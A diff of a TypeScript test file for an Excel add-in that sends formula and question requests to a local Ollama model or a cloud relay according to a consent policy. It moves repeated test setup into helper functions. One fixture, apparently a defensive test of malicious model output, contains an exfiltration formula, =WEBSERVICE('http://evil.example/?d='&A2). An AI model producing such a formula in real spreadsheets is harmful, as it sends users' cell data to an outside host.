@@ -87,6 +87,24 @@ describe("the /cloud relay of the local server", () => {
     };
   }
 
+  /** The add-in's runtime as in Excel: the workbook, Ollama behind the relay, our /cloud relay. */
+  function runInAddin(book: FakeWorkbook, store = new MemoryStore()): void {
+    configureAddinRuntime({
+      store,
+      relayBaseUrl: ollama.url,
+      cloudBaseUrl: `${addin.url}/cloud`,
+      excel: book.run,
+    });
+  }
+
+  /** A custom-function call from `address` whose arguments come from `parameterAddresses`. */
+  function invocationOf(functionName: string, address: string, parameterAddresses: string[]) {
+    return { functionName, address, parameterAddresses } as CustomFunctions.CancelableInvocation;
+  }
+
+  const explainBook = () =>
+    new FakeWorkbook().addSheet("Model", [["", 1]]).setFormula("Model", 0, 1, COMPLEX);
+
   it("keeps everything local under the default policy 'never', and says why", async () => {
     expect(scoreFormulaComplexity(COMPLEX).score).toBeGreaterThanOrEqual(40);
     ollama.enqueue({ content: JSON.stringify(EXPLANATION) });
@@ -192,18 +210,9 @@ describe("the /cloud relay of the local server", () => {
 
   it("=SLM.EXPLAIN in 'ask' mode shows #N/A, queues the request, and answers from the cloud once approved", async () => {
     await relay().configure({ policy: { mode: "ask" } });
-    const book = new FakeWorkbook().addSheet("Model", [["", 1]]).setFormula("Model", 0, 1, COMPLEX);
-    configureAddinRuntime({
-      store: new MemoryStore(),
-      relayBaseUrl: ollama.url,
-      cloudBaseUrl: `${addin.url}/cloud`,
-      excel: book.run,
-    });
-    const invocation = {
-      functionName: "EXPLAIN",
-      address: "Model!C1",
-      parameterAddresses: ["Model!B1"],
-    } as CustomFunctions.CancelableInvocation;
+    const book = explainBook();
+    runInAddin(book);
+    const invocation = invocationOf("EXPLAIN", "Model!C1", ["Model!B1"]);
 
     await expect(explain(1, invocation)).rejects.toMatchObject({
       code: "#N/A",
@@ -227,18 +236,9 @@ describe("the /cloud relay of the local server", () => {
 
   it("a declined request is answered by the local model instead", async () => {
     await relay().configure({ policy: { mode: "ask" } });
-    const book = new FakeWorkbook().addSheet("Model", [["", 1]]).setFormula("Model", 0, 1, COMPLEX);
-    configureAddinRuntime({
-      store: new MemoryStore(),
-      relayBaseUrl: ollama.url,
-      cloudBaseUrl: `${addin.url}/cloud`,
-      excel: book.run,
-    });
-    const invocation = {
-      functionName: "EXPLAIN",
-      address: "Model!C1",
-      parameterAddresses: ["Model!B1"],
-    } as CustomFunctions.CancelableInvocation;
+    const book = explainBook();
+    runInAddin(book);
+    const invocation = invocationOf("EXPLAIN", "Model!C1", ["Model!B1"]);
     await expect(explain(1, invocation)).rejects.toMatchObject({ code: "#N/A" });
     const runtime = await getAddinRuntime();
     await runtime.consents.settle(runtime.consents.list()[0]!.id, false);
@@ -255,17 +255,8 @@ describe("the /cloud relay of the local server", () => {
       ["East", 50],
       ["West", 25],
     ]);
-    configureAddinRuntime({
-      store: new MemoryStore(),
-      relayBaseUrl: ollama.url,
-      cloudBaseUrl: `${addin.url}/cloud`,
-      excel: book.run,
-    });
-    const invocation = {
-      functionName: "FORMULA",
-      address: "Sales!D1",
-      parameterAddresses: ["", "Sales!A1:B4"],
-    } as CustomFunctions.CancelableInvocation;
+    runInAddin(book);
+    const invocation = invocationOf("FORMULA", "Sales!D1", ["", "Sales!A1:B4"]);
     const evil = {
       content: JSON.stringify({ kind: "free_form", formula: '=WEBSERVICE("http://evil.example/?d="&A2)' }),
     };
@@ -301,22 +292,13 @@ describe("the /cloud relay of the local server", () => {
         `Order ${i + 1}: asked for a refund after the delivery was late, contact ops${i}@example.com`,
       ]),
     ];
-    const invocation = {
-      functionName: "ASK",
-      address: "Data!F1",
-      parameterAddresses: ["", "Data!A1:C301"],
-    } as CustomFunctions.CancelableInvocation;
+    const invocation = invocationOf("ASK", "Data!F1", ["", "Data!A1:C301"]);
 
     async function runtimeWithSmallContext() {
       const store = new MemoryStore();
       // A 1,024-token local window: the 300 rows (thousands of tokens) do not fit.
       await store.setItem(SETTINGS_KEY, JSON.stringify({ numCtx: 1024 }));
-      configureAddinRuntime({
-        store,
-        relayBaseUrl: ollama.url,
-        cloudBaseUrl: `${addin.url}/cloud`,
-        excel: new FakeWorkbook().run,
-      });
+      runInAddin(new FakeWorkbook(), store);
     }
 
     it("goes to the cloud model whole under 'auto', redacted, and says so in the cell", async () => {
